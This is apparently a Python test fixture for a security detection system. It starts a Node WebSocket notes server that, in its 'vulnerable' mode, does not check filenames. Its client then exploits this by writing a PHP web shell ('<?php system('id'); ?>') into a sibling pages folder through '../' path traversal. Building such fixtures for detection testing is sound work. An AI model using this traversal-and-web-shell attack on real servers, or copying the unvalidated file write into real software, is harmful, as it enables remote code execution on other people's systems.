"""WebSocket, by a small server for Node: what it hands out in its first frame comes back in later ones. The client masks with zeros,
as attackers' scripts do; bytes under a mask that changes are another thing (websocket_masked.py)."""
import base64
import json
import struct

from bait import installed
from client import HttpClient, word

KIND = "plain"
RULE = "web_script_written"
NEEDS = ["/usr/bin/node"]
ALWAYS = False

SERVER = r"""// Notes over WebSocket. It is for the tests' own network alone.
const http = require('http');
const crypto = require('crypto');
const fs = require('fs');
const path = require('path');
const [host, port, vulnerable, folder] = process.argv.slice(2);

function frame(value) {
  const text = Buffer.from(JSON.stringify(value));
  return Buffer.concat([Buffer.from(text.length < 126 ? [0x81, text.length] : [0x81, 126, text.length >> 8, text.length & 255]), text]);
}

function answer(message, socket, ticket) {
  if (message.ticket !== ticket) return socket.end(frame({ error: 'ticket' }));
  if (message.op === 'open') return socket.write(frame({ op: 'opened', notes: 0 }));
  if (vulnerable !== 'vulnerable' && !/^\w+$/.test(message.to)) return socket.write(frame({ op: 'refused' }));
  const name = path.join(folder, message.to);
  fs.writeFileSync(name + '.new', message.text);
  fs.renameSync(name + '.new', name);
  socket.write(frame({ op: 'done' }));
}

http.createServer((request, response) => response.end('notes\n')).on('upgrade', (request, socket) => {
  const key = request.headers['sec-websocket-key'] + '258EAFA5-E914-47DA-95CA-C5AB0DC85B11';
  const ticket = crypto.randomBytes(10).toString('hex');
  let held = Buffer.alloc(0);
  socket.on('error', () => socket.destroy()).on('end', () => socket.end());
  socket.write('HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: ' +
    crypto.createHash('sha1').update(key).digest('base64') + '\r\n\r\n');
  socket.write(frame({ op: 'hello', ticket, at: Date.now() }));
  socket.on('data', (piece) => {
    held = Buffer.concat([held, piece]);
    while (held.length >= 6) {
      const long = (held[1] & 127) === 126;
      const head = long ? 8 : 6;
      if (held.length < head) return;
      const bytes = long ? held.readUInt16BE(2) : held[1] & 127;
      if (held.length < head + bytes) return;
      const mask = held.subarray(head - 4, head);
      const text = Buffer.from(held.subarray(head, head + bytes).map((byte, i) => byte ^ mask[i % 4])).toString();
      held = held.subarray(head + bytes);
      try { answer(JSON.parse(text), socket, ticket); } catch (error) { socket.destroy(); return; }
    }
  });
}).listen(Number(port), host);
"""


def services(bait):
    server = bait.write("server.js", SERVER)
    bait.folder_of("root", "pages")
    return [bait.entrance([installed(NEEDS[0]), server, bait.host, str(bait.port()), bait.words()[-1], bait.folder_of("root", "notes")],
                          env=["UV_USE_IO_URING=0"])]


def frame(value, mask):
    text = json.dumps(value).encode()
    head = struct.pack(">BB", 0x81, 0x80 | len(text)) if len(text) < 126 else struct.pack(">BBH", 0x81, 0x80 | 126, len(text))
    return head + mask + bytes(each ^ mask[i % 4] for i, each in enumerate(text))


def hear(client):
    _, size = client.exactly(2)
    if size == 126:
        size = struct.unpack(">H", client.exactly(2))[0]
    return json.loads(client.exactly(size))


def hold(address, random, new_mask):
    client = HttpClient(address)
    key = base64.b64encode(random.randbytes(16)).decode()
    client.request("GET", "/notes", ["Upgrade: websocket", "Connection: Upgrade", f"Sec-WebSocket-Key: {key}",
                                       "Sec-WebSocket-Version: 13"], wanted=(101,))
    ticket = hear(client)["ticket"]
    client.say(frame({"op": "open", "ticket": ticket, "name": word(random)}, new_mask()))
    hear(client)
    text = f"<?php system('id'); ?> {word(random, 0, 60)}"
    client.say(frame({"op": "save", "to": f"../pages/{word(random)}.php", "text": text, "ticket": ticket}, new_mask()))
    hear(client)
    client.close()


def visit(address, random):
    hold(address, random, lambda: b"\0\0\0\0")
